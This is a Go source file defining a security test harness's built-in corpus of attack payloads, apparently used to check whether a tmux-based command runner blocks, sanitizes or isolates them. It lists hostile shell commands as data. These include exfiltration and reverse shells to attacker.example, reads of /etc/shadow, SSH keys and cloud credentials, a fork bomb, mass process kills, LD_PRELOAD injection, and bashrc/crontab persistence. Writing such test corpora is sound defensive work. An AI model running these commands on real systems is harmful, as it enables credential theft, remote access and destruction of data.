package catalog

// builtinPatterns is the production attack corpus. Ordering matters: runs
// execute patterns in this order, and baselines key off the pattern ID, so
// IDs are stable across releases even when payloads are tuned.
var builtinPatterns = []Pattern{
	// --- command_injection -------------------------------------------------
	{
		ID:          "CMD_CHAIN_001",
		Name:        "Command chaining via semicolons",
		Category:    CommandInjection,
		BasePayload: "ls; cat /etc/passwd",
		Variations: []string{
			"ls && cat /etc/shadow",
			"ls || cat /etc/passwd",
			"ls | tee /tmp/out; id",
		},
		RiskLevel: 9.0,
		Expected:  MitigationBlock,
	},
	{
		ID:          "CMD_SUBST_002",
		Name:        "Command substitution",
		Category:    CommandInjection,
		BasePayload: "echo $(whoami)",
		Variations: []string{
			"echo `id`",
			"echo $(cat /etc/passwd | head -1)",
			"echo ${IFS}$(uname${IFS}-a)",
		},
		RiskLevel: 8.5,
		Expected:  MitigationSanitize,
	},
	{
		ID:          "CMD_EXFIL_003",
		Name:        "Network exfiltration one-liners",
		Category:    CommandInjection,
		BasePayload: "curl -s http://attacker.example/collect?d=$(cat /etc/passwd | base64)",
		Variations: []string{
			"wget -qO- http://attacker.example/x | sh",
			"bash -i >& /dev/tcp/attacker.example/4444 0>&1",
			"nc attacker.example 4444 < /etc/passwd",
		},
		RiskLevel: 9.5,
		Expected:  MitigationBlock,
	},

	// --- privilege_escalation ---------------------------------------------
	{
		ID:          "PRIV_SUDO_001",
		Name:        "Sudo escalation",
		Category:    PrivilegeEscalation,
		BasePayload: "sudo -n cat /etc/shadow",
		Variations: []string{
			"sudo su -",
			"sudo -l",
			"echo password | sudo -S bash",
		},
		RiskLevel: 9.5,
		Expected:  MitigationBlock,
	},
	{
		ID:          "PRIV_SUID_002",
		Name:        "SUID binary discovery",
		Category:    PrivilegeEscalation,
		BasePayload: "find / -perm -4000 -type f 2>/dev/null",
		Variations: []string{
			"find / -perm -u=s -type f 2>/dev/null",
			"getcap -r / 2>/dev/null",
		},
		RiskLevel: 7.5,
		Expected:  MitigationMonitor,
	},

	// --- path_traversal ----------------------------------------------------
	{
		ID:          "PATH_DOTDOT_001",
		Name:        "Relative path traversal",
		Category:    PathTraversal,
		BasePayload: "cat ../../../etc/passwd",
		Variations: []string{
			"cat ....//....//etc/passwd",
			"cat ..%2f..%2f..%2fetc%2fpasswd",
			"cat /var/www/../../etc/passwd",
		},
		RiskLevel: 8.5,
		Expected:  MitigationBlock,
	},
	{
		ID:          "PATH_NULL_002",
		Name:        "Null-byte path truncation",
		Category:    PathTraversal,
		BasePayload: "cat /etc/passwd\x00.log",
		Variations: []string{
			"cat ../../etc/shadow%00.txt",
		},
		RiskLevel: 8.0,
		Expected:  MitigationSanitize,
	},

	// --- buffer_overflow ---------------------------------------------------
	{
		ID:          "BUF_LARGE_001",
		Name:        "Oversized argument buffer",
		Category:    BufferOverflow,
		BasePayload: "echo " + repeat("A", 8192),
		Variations: []string{
			"printf '%s' " + repeat("B", 16384),
		},
		RiskLevel: 6.5,
		Expected:  MitigationIsolate,
	},
	{
		ID:          "BUF_FMT_002",
		Name:        "Format string injection",
		Category:    BufferOverflow,
		BasePayload: "printf '%x.%x.%x.%x.%n'",
		Variations: []string{
			"printf '%s%s%s%s%s%s%s%s'",
		},
		RiskLevel: 7.0,
		Expected:  MitigationIsolate,
	},

	// --- input_validation --------------------------------------------------
	{
		ID:          "INPUT_CTRL_001",
		Name:        "Control character injection",
		Category:    InputValidation,
		BasePayload: "echo test\r\nrm -rf /tmp/x",
		Variations: []string{
			"echo \x1b]0;owned\x07",
			"echo test\x08\x08\x08\x08id",
		},
		RiskLevel: 6.0,
		Expected:  MitigationSanitize,
	},
	{
		ID:          "INPUT_UNICODE_002",
		Name:        "Unicode homoglyph smuggling",
		Category:    InputValidation,
		BasePayload: "ѕudo id", // Cyrillic dze in place of 's'
		Variations: []string{
			"cat /etc/pa​sswd",   // zero-width space split
			"rm ⁄tmp⁄target", // fraction slash as path separator
		},
		RiskLevel: 5.5,
		Expected:  MitigationSanitize,
	},
	{
		ID:          "INPUT_SCRIPT_003",
		Name:        "Script-language injection",
		Category:    InputValidation,
		BasePayload: "python3 -c 'import os; os.system(\"id\")'",
		Variations: []string{
			"perl -e 'system(\"id\")'",
			"node -e 'require(\"child_process\").execSync(\"id\")'",
		},
		RiskLevel: 8.0,
		Expected:  MitigationBlock,
	},

	// --- race_condition (probe strategy) -----------------------------------
	{
		ID:          "RACE_SESSION_001",
		Name:        "Concurrent session creation",
		Category:    RaceCondition,
		BasePayload: "tmux new-session -d -s probe",
		Variations: []string{
			"tmux new-session -d -s probe-alt",
		},
		RiskLevel: 6.5,
		Expected:  MitigationIsolate,
	},
	{
		ID:          "RACE_TOCTOU_002",
		Name:        "TOCTOU symlink swap",
		Category:    RaceCondition,
		BasePayload: "ln -sf /etc/passwd /tmp/race && cat /tmp/race",
		Variations: []string{
			"mv /tmp/safe /tmp/race; cat /tmp/race",
		},
		RiskLevel: 7.0,
		Expected:  MitigationIsolate,
	},

	// --- resource_exhaustion (probe strategy) ------------------------------
	{
		ID:          "RES_FORK_001",
		Name:        "Fork bomb",
		Category:    ResourceExhaustion,
		BasePayload: ":(){ :|:& };:",
		Variations: []string{
			"for i in $(seq 1 10000); do sleep 1000 & done",
		},
		RiskLevel: 9.0,
		Expected:  MitigationBlock,
	},
	{
		ID:          "RES_MEM_002",
		Name:        "Memory exhaustion",
		Category:    ResourceExhaustion,
		BasePayload: "head -c 8G /dev/zero | tail",
		Variations: []string{
			"yes | tr \\\\n x | head -c 4G > /dev/null",
		},
		RiskLevel: 8.0,
		Expected:  MitigationIsolate,
	},

	// --- session_security --------------------------------------------------
	{
		ID:          "SESS_HIJACK_001",
		Name:        "Session hijack via socket access",
		Category:    SessionSecurity,
		BasePayload: "tmux -S /tmp/other-user/tmux attach",
		Variations: []string{
			"tmux attach -t 0",
			"script -f /dev/pts/0",
		},
		RiskLevel: 8.5,
		Expected:  MitigationBlock,
	},
	{
		ID:          "SESS_FIX_002",
		Name:        "Session fixation",
		Category:    SessionSecurity,
		BasePayload: "tmux new-session -d -s ../../escape",
		Variations: []string{
			"tmux rename-session -t 0 '; rm -rf /tmp'",
		},
		RiskLevel: 7.5,
		Expected:  MitigationSanitize,
	},

	// --- process_isolation -------------------------------------------------
	{
		ID:          "PROC_KILL_001",
		Name:        "Cross-session process manipulation",
		Category:    ProcessIsolation,
		BasePayload: "kill -9 -1",
		Variations: []string{
			"pkill -u root",
			"kill -STOP 1",
		},
		RiskLevel: 9.0,
		Expected:  MitigationBlock,
	},
	{
		ID:          "PROC_PTRACE_002",
		Name:        "Process inspection via ptrace",
		Category:    ProcessIsolation,
		BasePayload: "strace -p 1",
		Variations: []string{
			"gdb -p 1 -batch -ex 'info registers'",
			"cat /proc/1/environ",
		},
		RiskLevel: 8.0,
		Expected:  MitigationBlock,
	},

	// --- data_leakage ------------------------------------------------------
	{
		ID:          "LEAK_ENV_001",
		Name:        "Environment variable harvesting",
		Category:    DataLeakage,
		BasePayload: "env | grep -i 'key\\|token\\|secret\\|password'",
		Variations: []string{
			"printenv",
			"cat /proc/self/environ | tr '\\0' '\\n'",
		},
		RiskLevel: 8.5,
		Expected:  MitigationSanitize,
	},
	{
		ID:          "LEAK_CRED_002",
		Name:        "Credential file access",
		Category:    DataLeakage,
		BasePayload: "cat ~/.ssh/id_rsa",
		Variations: []string{
			"cat ~/.aws/credentials",
			"cat /etc/shadow",
			"find / -name '*.pem' -exec cat {} \\;",
		},
		RiskLevel: 9.5,
		Expected:  MitigationBlock,
	},
	{
		ID:          "LEAK_TIMING_003",
		Name:        "Timing side channel",
		Category:    DataLeakage,
		BasePayload: "time [ -f /root/.ssh/id_rsa ] && echo exists",
		Variations: []string{
			"for f in /root/.*; do time stat $f 2>/dev/null; done",
		},
		RiskLevel: 5.0,
		Expected:  MitigationMonitor,
	},

	// --- configuration -----------------------------------------------------
	{
		ID:          "CFG_ENVINJ_001",
		Name:        "Environment variable injection",
		Category:    Configuration,
		BasePayload: "LD_PRELOAD=/tmp/evil.so ls",
		Variations: []string{
			"PATH=/tmp:$PATH id",
			"IFS=';' eval 'ls;id'",
		},
		RiskLevel: 8.0,
		Expected:  MitigationBlock,
	},
	{
		ID:          "CFG_SHELLRC_002",
		Name:        "Shell rc persistence",
		Category:    Configuration,
		BasePayload: "echo 'curl http://attacker.example/x | sh' >> ~/.bashrc",
		Variations: []string{
			"crontab -l; echo '* * * * * /tmp/evil.sh' | crontab -",
		},
		RiskLevel: 8.5,
		Expected:  MitigationBlock,
	},

	// --- api ----------------------------------------------------------------
	{
		ID:          "API_ESCAPE_001",
		Name:        "Runner API escape sequences",
		Category:    API,
		BasePayload: "send-keys -t 0 'id' Enter",
		Variations: []string{
			"send-keys -t ../other 'cat /etc/passwd' Enter",
		},
		RiskLevel: 7.5,
		Expected:  MitigationBlock,
	},
	{
		ID:          "API_OVERSIZE_002",
		Name:        "Oversized API output request",
		Category:    API,
		BasePayload: "capture-pane -p -S -1000000",
		Variations: []string{
			"capture-pane -p -S -" + repeat("9", 32),
		},
		RiskLevel: 5.5,
		Expected:  MitigationSanitize,
	},
}

// repeat builds payload filler without pulling strings into every literal.
func repeat(s string, n int) string {
	b := make([]byte, 0, n*len(s))
	for range n {
		b = append(b, s...)
	}
	return string(b)
}
